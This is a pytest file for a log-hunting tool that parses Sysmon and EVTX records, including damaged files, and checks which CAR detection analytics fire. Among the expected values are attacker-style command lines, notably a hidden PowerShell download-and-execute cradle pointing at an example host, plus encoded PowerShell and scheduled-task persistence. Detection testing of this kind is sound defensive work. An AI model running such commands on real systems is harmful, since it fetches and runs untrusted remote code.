"""Every case of the bug-report folder, with the exact values of its case.md.

Reader and normalization expectations are asserted directly. Analytic
expectations run the analytic by id through the pipeline and are xfail only
while that analytic is not registered.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analytic_checks import evidence, hits_of, require, silent_analytics
from carhunt.account import ErrorPolicy
from carhunt.errors import BadInputError
from helpers import load, make_case_input, rows

CLEAN_FILE_HITS = {
    "CAR-2013-02-003": [["rec:19"]],
    "CAR-2013-08-001": [["rec:22"]],
    "CAR-2014-03-006": [["rec:24"], ["rec:26"], ["rec:29"], ["rec:4"], ["rec:45"]],
    "CAR-2014-11-002": [["rec:19"]],
}


@pytest.fixture(scope="session")
def cases(bugcases: Path, corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the EVTX case inputs once per session, outside the read-only case folder."""
    out = tmp_path_factory.mktemp("bugcases")
    for name in (
        "01-evtx-chunk-header-overclaims",
        "02-evtx-zero-size-record",
        "04-evtx-dirty-stale-headers",
    ):
        make_case_input(bugcases / name, corpus, out / f"{name[:2]}.evtx")
    make_case_input(bugcases / "05-evtx-bad-files-in-directory", corpus, out / "05")
    return out


# --- 01: chunk header over-claims -------------------------------------------------


def test_case01_account(cases: Path) -> None:
    store, account = load([cases / "01.evtx"])
    assert account.read == 50
    assert account.total_skipped == 0
    assert account.normalized["process_create"] == 8
    assert account.normalized["unmapped_sysmon"] == 42
    assert account.not_sysmon == 0
    assert [a.kind for a in account.anomalies] == ["evtx_chunk_overclaims"]
    assert rows(store, "SELECT count(*) AS n FROM process_create")[0]["n"] == 8


def test_case01_fail_policy_names_file_and_offset(cases: Path) -> None:
    with pytest.raises(BadInputError) as raised:
        load([cases / "01.evtx"], policy=ErrorPolicy.FAIL)
    assert raised.value.path.endswith("01.evtx")
    assert "file offset 4096 (0x1000)" in raised.value.reason


@pytest.mark.parametrize("case", ["01", "02", "04"])
@pytest.mark.parametrize("analytic_id", sorted(CLEAN_FILE_HITS))
def test_damaged_copy_hits_like_clean_file(cases: Path, case: str, analytic_id: str) -> None:
    hits = hits_of([cases / f"{case}.evtx"], analytic_id)
    assert evidence(hits) == sorted(CLEAN_FILE_HITS[analytic_id])


@pytest.mark.parametrize("case", ["01", "02", "04"])
def test_damaged_copy_fires_nothing_else(cases: Path, case: str) -> None:
    assert silent_analytics([cases / f"{case}.evtx"], set(CLEAN_FILE_HITS)) == {}


def test_case01_first_hit_values(cases: Path) -> None:
    hits = hits_of([cases / "01.evtx"], "CAR-2013-02-003")
    fields = hits[0].fields
    assert fields["image_path"] == "C:\\Windows\\SysWOW64\\cmd.exe"
    assert fields["parent_exe"] == "rundll32.exe"
    assert fields["pid"] == 5572
    assert fields["ppid"] == 3396
    assert hits[0].time is not None
    assert hits[0].time.isoformat(sep=" ", timespec="milliseconds") == "2020-10-23 21:57:36.394"


def test_case01_schtasks_command_line(cases: Path) -> None:
    hits = hits_of([cases / "01.evtx"], "CAR-2013-08-001")
    assert hits[0].fields["command_line"] == (
        "schtasks  /Create /f /XML C:\\Users\\IEUser\\AppData\\Local\\Temp\\sduchxll.tmp "
        "/TN DataUsageHandlers"
    )


def test_case01_baseline_flag(cases: Path) -> None:
    hits = hits_of([cases / "01.evtx"], "CAR-2014-11-002")
    assert "baseline_incomplete" in hits[0].flags


# --- 02: zero-size record ------------------------------------------------------------


def test_case02_account(cases: Path) -> None:
    _, account = load([cases / "02.evtx"])
    assert account.read == 50
    assert account.total_skipped == 1
    assert account.skipped["evtx_record_damaged"] == 1
    assert account.recovered == 30
    skip = account.examples[0]
    assert skip.offset == "rec:20 (chunk 0, file offset 24912 (0x6150))"
    assert skip.detail == "record size 0"
    assert skip.path.endswith("02.evtx")


# --- 04: dirty log with stale headers ----------------------------------------------


def test_case04_account(cases: Path) -> None:
    _, account = load([cases / "04.evtx"])
    assert account.read == 50
    assert account.total_skipped == 0
    assert account.recovered == 40
    stale = [a for a in account.anomalies if a.kind == "evtx_stale_header"]
    assert len(stale) == 1
    assert stale[0].detail.startswith("chunk 0: 40 records beyond stale header recovered")
    assert "file flagged dirty" in stale[0].detail


# --- 05: bad files in a directory ------------------------------------------------------


def test_case05_directory_account(cases: Path) -> None:
    _, account = load([cases / "05"])
    assert account.balanced
    failures = {Path(f.path).name: f.reason for f in account.failures}
    assert sorted(failures) == ["empty.evtx", "garbage.evtx", "notes.txt"]
    assert failures["empty.evtx"].startswith("empty file")
    assert failures["garbage.evtx"].startswith("unrecognized format")
    assert failures["notes.txt"].startswith("unrecognized format")


def _per_file(cases: Path, name: str) -> tuple[int, dict[str, int], list[str]]:
    _, account = load([cases / "05" / name])
    parsed = account.read - account.total_skipped
    return parsed, dict(account.skipped), [a.detail for a in account.anomalies]


def test_case05_good_file(cases: Path) -> None:
    parsed, skipped, anomalies = _per_file(cases, "good.evtx")
    assert parsed == 50
    assert skipped == {}
    assert anomalies == []


def test_case05_truncated_file(cases: Path) -> None:
    store, account = load([cases / "05" / "truncated.evtx"])
    assert account.read - account.total_skipped == 133
    assert account.recovered == 27
    assert account.skipped["evtx_record_cut"] == 1
    assert account.skipped["evtx_truncated"] == 103
    cut = next(s for s in account.examples if s.reason == "evtx_record_cut")
    assert cut.offset.startswith("rec:134 ")
    assert cut.detail == "record cut at end of file, 352 of 640 bytes present"
    lost = next(s for s in account.examples if s.reason == "evtx_truncated")
    assert "file truncated at 167,936 bytes inside chunk 2 (file offset 135168 (0x21000))" in (
        lost.detail
    )
    assert "file header declares 5 chunks / next record 238" in lost.detail
    assert "records 135-237 (103) not in the file" in lost.detail
    ids = rows(store, "SELECT max(CAST(substr(ref, 5) AS INTEGER)) AS m FROM process_create")
    assert ids[0]["m"] <= 133


def test_case05_bad_crc_file(cases: Path) -> None:
    parsed, skipped, anomalies = _per_file(cases, "bad-chunk-crc.evtx")
    assert parsed == 7
    assert skipped == {}
    assert anomalies == ["chunk 0 header checksum mismatch; read anyway"]


def test_case05_fail_policy_stops_at_bad_file(cases: Path) -> None:
    with pytest.raises(BadInputError) as raised:
        load([cases / "05"], policy=ErrorPolicy.FAIL)
    assert raised.value.path.endswith("bad-chunk-crc.evtx")


CASE05_HITS = [
    ("good.evtx", "CAR-2013-02-003", [["rec:19"]]),
    ("good.evtx", "CAR-2013-08-001", [["rec:22"]]),
    ("truncated.evtx", "CAR-2013-02-003", [["rec:11"], ["rec:34"], ["rec:35"], ["rec:61"]]),
    ("truncated.evtx", "CAR-2014-05-002", [["rec:11"], ["rec:34"], ["rec:35"]]),
    ("truncated.evtx", "CAR-2013-08-001", []),
    ("truncated.evtx", "CAR-2016-03-001", []),
    ("truncated.evtx", "CAR-2014-03-006", []),
    ("bad-chunk-crc.evtx", "CAR-2013-02-003", [["rec:2"], ["rec:3"], ["rec:4"]]),
    ("bad-chunk-crc.evtx", "CAR-2013-07-001", [["rec:2"], ["rec:3"], ["rec:4"]]),
    ("bad-chunk-crc.evtx", "CAR-2016-03-001", [["rec:5"]]),
]


@pytest.mark.parametrize(("name", "analytic_id", "expected"), CASE05_HITS)
def test_case05_hits_per_file(
    cases: Path, name: str, analytic_id: str, expected: list[list[str]]
) -> None:
    hits = hits_of([cases / "05"], analytic_id, per_file=True)
    assert evidence(hits, name) == expected


@pytest.mark.parametrize(
    ("name", "analytic_id", "count"),
    [
        ("truncated.evtx", "CAR-2013-09-005", 28),
        ("truncated.evtx", "CAR-2014-11-002", 4),
        ("bad-chunk-crc.evtx", "CAR-2014-11-002", 3),
    ],
)
def test_case05_baseline_counts(cases: Path, name: str, analytic_id: str, count: int) -> None:
    hits = hits_of([cases / "05" / name], analytic_id)
    assert len(hits) == count


# --- 06: lone surrogates ----------------------------------------------------------------


def test_case06_surrogates(bugcases: Path) -> None:
    store, account = load([bugcases / "06-json-lone-surrogate" / "input.jsonl"])
    assert account.read == 4
    assert account.total_skipped == 0
    assert account.normalized["process_create"] == 3
    assert account.normalized["unmapped_sysmon"] == 1
    assert account.warnings["invalid_utf16"] == 3
    lines = {
        r["ref"]: r["command_line"]
        for r in rows(store, "SELECT ref, command_line FROM process_create")
    }
    assert lines["line:2"] == "cmd.exe /c start C:\\Users\\Public\\inv\ufffdoice.exe"
    assert lines["line:3"] == (
        "powershell.exe -nop -c \"Get-ChildItem 'C:\\Users\\user1\\\U0001f600 Fotos\\\U00020bb7'\""
    )
    assert lines["line:4"] == "powershell.exe -enc SQBFAFgA\ufffd"


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2013-02-003", [["line:2"]]),
        ("CAR-2014-04-003", [["line:3"], ["line:4"]]),
        ("CAR-2014-11-002", [["line:2"]]),
    ],
)
def test_case06_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "06-json-lone-surrogate" / "input.jsonl"], analytic_id)
    assert evidence(hits) == expected


# --- 08: Hashes variants -----------------------------------------------------------------

MD5 = "4c6f2a1e9d3b5a7c8e0f1d2c3b4a5968"
SHA1 = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
SHA256 = "9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0"
SHA256_805 = "1d2c3b4a59687f6e5d4c3b2a19081f2e3d4c5b6a79880f1e2d3c4b5a69788796"
IMPHASH = "159d56d406180a332fbc99290f30700e"


def test_case08_hash_fields(bugcases: Path) -> None:
    store, account = load([bugcases / "08-hashes-config-variants" / "input.xml"])
    assert account.read == 8
    assert account.normalized["process_create"] == 8
    assert account.total_skipped == 0
    got = {
        r["ref"]: (r["md5_hash"], r["sha1_hash"], r["sha256_hash"], r["imphash"])
        for r in rows(store, "SELECT ref, md5_hash, sha1_hash, sha256_hash, imphash "
                             "FROM process_create")
    }
    assert got == {
        "rec:801": (MD5, SHA1, SHA256, IMPHASH),
        "rec:802": (MD5, None, SHA256, IMPHASH),
        "rec:803": (None, None, SHA256, None),
        "rec:804": (None, None, None, "3a5f0c9e1b7d24c68e0f13a2b4c6d8e0"),
        "rec:805": (None, None, SHA256_805, None),
        "rec:806": (None, None, None, None),
        "rec:807": (None, None, None, None),
        "rec:808": (MD5, SHA1, SHA256, IMPHASH),
    }


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2013-05-009", [["rec:801", "rec:802", "rec:808"]]),
        ("CAR-2013-02-003", [["rec:804"]]),
        ("CAR-2016-03-001", [["rec:805"], ["rec:806"]]),
        ("CAR-2014-11-002", [["rec:804"]]),
    ],
)
def test_case08_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "08-hashes-config-variants" / "input.xml"], analytic_id)
    assert evidence(hits) == expected


# --- 09: positional drift -------------------------------------------------------------


def test_case09_process_fields(bugcases: Path) -> None:
    store, account = load([bugcases / "09-positional-field-drift" / "input.xml"])
    assert account.read == 6
    assert account.normalized["process_create"] == 4
    assert account.normalized["flow_start"] == 2
    assert account.total_skipped == 0
    got = rows(store, "SELECT * FROM process_create ORDER BY ref")
    assert [r["pid"] for r in got] == [2108, 2264, 2412, 2560]
    times = [r["time"].isoformat(sep=" ", timespec="milliseconds") for r in got]
    assert times == [
        "2019-07-02 08:10:11.402",
        "2019-07-02 08:11:12.515",
        "2019-07-02 08:12:13.628",
        "2019-07-02 08:13:14.741",
    ]
    command = (
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
        ".DownloadString('http://updates.example.net/a.ps1')\""
    )
    for row in got:
        assert row["exe"] == "powershell.exe"
        assert row["image_path"] == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        assert row["command_line"] == command
        assert row["parent_exe"] == "WmiPrvSE.exe"
        assert row["parent_image_path"] == "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
        assert row["user"] == "EXAMPLE\\user3"
        assert row["hostname"] == "WS03"
        assert row["fqdn"] == "WS03.example.local"
        assert row["ppid"] == 1504
        assert row["md5_hash"] == "8e9f0a1b2c3d4e5f60718293a4b5c6d7"
        assert row["sha1_hash"] == "2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e"
        assert row["sha256_hash"] is None
        assert row["logon_id"] == "0x2f1ad4"
    assert got[0]["original_file_name"] is None


def test_case09_flow_fields(bugcases: Path) -> None:
    store, _ = load([bugcases / "09-positional-field-drift" / "input.xml"])
    got = rows(store, "SELECT * FROM flow_start ORDER BY ref")
    assert [r["src_port"] for r in got] == [50233, 50234]
    for row in got:
        assert row["protocol"] == "tcp"
        assert row["src_ip"] == "10.0.0.5"
        assert row["dest_ip"] == "10.0.0.20"
        assert row["dest_port"] == 5985
        assert row["initiated"] is True
        assert row["exe"] == "powershell.exe"
        assert row["pid"] == 2560
        assert row["dest_hostname"] == "SRV1.example.local"


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2014-04-003", [["rec:901"], ["rec:902"], ["rec:903"], ["rec:904"]]),
        ("CAR-2014-11-006", [["rec:905"], ["rec:906"]]),
    ],
)
def test_case09_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "09-positional-field-drift" / "input.xml"], analytic_id)
    assert evidence(hits) == expected


# --- 10: missing parent fields ----------------------------------------------------------


def test_case10_parent_fields(bugcases: Path) -> None:
    store, account = load([bugcases / "10-missing-parent-fields" / "input.jsonl"])
    assert account.read == 6
    assert account.normalized["process_create"] == 6
    assert account.total_skipped == 0
    got = {
        r["ref"]: (r["parent_exe"], r["parent_image_path"], r["ppid"], r["parent_process_guid"])
        for r in rows(store, "SELECT * FROM process_create")
    }
    assert got["line:1"] == (None, None, 5060, None)
    assert got["line:2"] == (None, None, 1164, None)
    assert got["line:3"] == (None, None, 1216, None)
    assert got["line:4"] == (None, None, 5060, None)
    assert got["line:5"][0] == "explorer.exe"
    assert got["line:6"][0] == "services.exe"


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2014-04-003", [["line:1"]]),
        ("CAR-2013-02-003", [["line:2"], ["line:6"]]),
        ("CAR-2014-05-002", [["line:6"]]),
        ("CAR-2014-03-006", [["line:3"]]),
        ("CAR-2013-03-001", []),
        ("CAR-2014-11-002", [["line:2"], ["line:6"]]),
        ("CAR-2013-09-005", [["line:6"]]),
    ],
)
def test_case10_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "10-missing-parent-fields" / "input.jsonl"], analytic_id)
    assert evidence(hits) == expected


def test_case10_missing_parent_flagged(bugcases: Path) -> None:
    hits = hits_of([bugcases / "10-missing-parent-fields" / "input.jsonl"], "CAR-2014-04-003")
    assert hits[0].field_missing == ("parent_exe",)


# --- 13: raw ampersands in XML --------------------------------------------------------


def test_case13_ampersands_kept(bugcases: Path) -> None:
    store, account = load([bugcases / "13-xml-raw-ampersand" / "input.xml"])
    assert account.read == 4
    assert account.normalized["process_create"] == 4
    assert account.total_skipped == 0
    assert account.warnings["xml_unescaped_ampersand"] == 3
    lines = {r["ref"]: r["command_line"] for r in rows(store, "SELECT * FROM process_create")}
    assert lines["rec:9011"] == (
        "cmd.exe /Q /c ipconfig /all & net view > C:\\Users\\Public\\o.txt 2>&1"
    )
    assert lines["rec:9013"] == (
        'rundll32.exe url.dll,OpenURL "http://files.example.net/get?id=77&t=dl"'
    )


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2013-02-003", [["rec:9011"]]),
        ("CAR-2013-03-001", [["rec:9011", "rec:9012"]]),
        ("CAR-2014-03-006", [["rec:9013"]]),
        ("CAR-2014-11-002", [["rec:9011"]]),
    ],
)
def test_case13_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "13-xml-raw-ampersand" / "input.xml"], analytic_id)
    assert evidence(hits) == expected


# --- 16: image name case -------------------------------------------------------------------


def test_case16_values(bugcases: Path) -> None:
    store, account = load([bugcases / "16-image-case-and-substring" / "input.jsonl"])
    assert account.read == 8
    assert account.normalized["process_create"] == 8
    got = {r["ref"]: r for r in rows(store, "SELECT * FROM process_create")}
    assert got["line:1"]["exe"] == "CMD.EXE"
    assert got["line:1"]["hostname"] == "WS06"
    assert got["line:1"]["user"] == "EXAMPLE\\user10"
    assert got["line:1"]["time"].isoformat(sep=" ", timespec="milliseconds") == (
        "2021-01-28 15:02:11.408"
    )
    assert got["line:3"]["parent_exe"] == "Explorer.EXE"


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2013-02-003", [["line:1"], ["line:7"]]),
        ("CAR-2014-04-003", [["line:2"]]),
        ("CAR-2014-03-006", [["line:3"]]),
        ("CAR-2014-05-002", [["line:7"]]),
        ("CAR-2016-03-002", [["line:8"]]),
        ("CAR-2014-11-002", [["line:1"], ["line:7"]]),
        ("CAR-2013-09-005", [["line:7"]]),
    ],
)
def test_case16_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "16-image-case-and-substring" / "input.jsonl"], analytic_id)
    assert evidence(hits) == expected


# --- 18: wmic /node forms ------------------------------------------------------------------


def test_case18_account(bugcases: Path) -> None:
    store, account = load([bugcases / "18-wmic-node-forms" / "input.jsonl"])
    assert account.read == 8
    assert account.normalized["process_create"] == 8
    hosts = {r["hostname"] for r in rows(store, "SELECT hostname FROM process_create")}
    assert hosts == {"WS11"}


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2016-03-002", [["line:1"], ["line:2"], ["line:3"], ["line:6"]]),
        ("CAR-2013-02-003", [["line:4"]]),
        ("CAR-2014-11-002", [["line:4"]]),
    ],
)
def test_case18_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "18-wmic-node-forms" / "input.jsonl"], analytic_id)
    assert evidence(hits) == expected


# --- 19: remote threads with unresolved start -------------------------------------------

CASE19 = "19-remote-thread-unresolved-start"


def test_case19_thread_fields(bugcases: Path) -> None:
    store, account = load([bugcases / CASE19 / "input.jsonl"])
    assert account.read == 7
    assert account.normalized["process_create"] == 1
    assert account.normalized["thread_remote_create"] == 6
    got = {r["ref"]: r for r in rows(store, "SELECT * FROM thread_remote_create")}
    for ref in ("line:4", "line:5"):
        assert got[ref]["start_module"] is None
        assert got[ref]["start_module_name"] is None
        assert got[ref]["start_function"] is None
    assert got["line:5"]["tgt_image_path"] == "<unknown process>"
    assert got["line:3"]["start_module_name"] == "KERNEL32.DLL"
    assert got["line:2"]["src_pid"] == 4242
    assert got["line:2"]["user"] == "EXAMPLE\\user12"
    for ref in ("line:3", "line:4", "line:5", "line:6", "line:7"):
        assert got[ref]["user"] is None


def test_case19_default_hits(bugcases: Path) -> None:
    hits = hits_of([bugcases / CASE19 / "input.jsonl"], "CAR-2013-10-002")
    assert evidence(hits) == [["line:2"], ["line:3"], ["line:7"]]


def test_case19_allowlist(bugcases: Path) -> None:
    parameters = {"trusted_injectors": ("C:\\PROGRAM FILES\\VENDOR AV\\AVAGENT.EXE",)}
    hits = hits_of([bugcases / CASE19 / "input.jsonl"], "CAR-2013-10-002", parameters)
    assert evidence(hits) == [["line:2"], ["line:3"]]


def test_case19_loadlibraryex_extension(bugcases: Path) -> None:
    require("CAR-2013-10-002")
    from carhunt.analytics import load_analytics

    analytic = load_analytics().get("CAR-2013-10-002")
    names = {p.name for p in analytic.parameters}
    if "functions" not in names:
        pytest.skip("CAR-2013-10-002 has no functions parameter to switch LoadLibraryEx on")
    functions = ("LoadLibraryA", "LoadLibraryW", "LoadLibraryExA", "LoadLibraryExW")
    hits = hits_of(
        [bugcases / CASE19 / "input.jsonl"], "CAR-2013-10-002", {"functions": functions}
    )
    assert evidence(hits) == [["line:2"], ["line:3"], ["line:6"], ["line:7"]]


# --- 20: GUID forms across transports ---------------------------------------------------


def test_case20_guid_forms_join(bugcases: Path) -> None:
    store, account = load([bugcases / "20-guid-forms-join" / "input.jsonl"])
    assert account.read == 4
    assert account.normalized["process_create"] == 3
    assert account.normalized["thread_remote_create"] == 1
    process = {r["ref"]: r for r in rows(store, "SELECT * FROM process_create")}
    thread = rows(store, "SELECT * FROM thread_remote_create")[0]
    first = "7d3a1c22-51d0-5f93-0000-0010b2b35b00"
    second = "7d3a1c22-5a10-5f93-0000-00104ac65b00"
    # The canonical form is upper-case without braces (model/car.py).
    assert process["line:1"]["process_guid"] == first.upper()
    assert process["line:2"]["parent_process_guid"] == first.upper()
    assert process["line:3"]["process_guid"] == second.upper()
    assert thread["src_process_guid"] == second.upper()
    assert thread["user"] == "EXAMPLE\\user14"
    assert thread["user_derived"] is True


@pytest.mark.parametrize(
    ("analytic_id", "expected"),
    [
        ("CAR-2013-03-001", [["line:1", "line:2"]]),
        ("CAR-2013-10-002", [["line:4"]]),
        ("CAR-2013-02-003", [["line:1"]]),
        ("CAR-2014-11-002", [["line:1"]]),
        ("CAR-2014-04-003", []),
    ],
)
def test_case20_hits(bugcases: Path, analytic_id: str, expected: list[list[str]]) -> None:
    hits = hits_of([bugcases / "20-guid-forms-join" / "input.jsonl"], analytic_id)
    assert evidence(hits) == expected
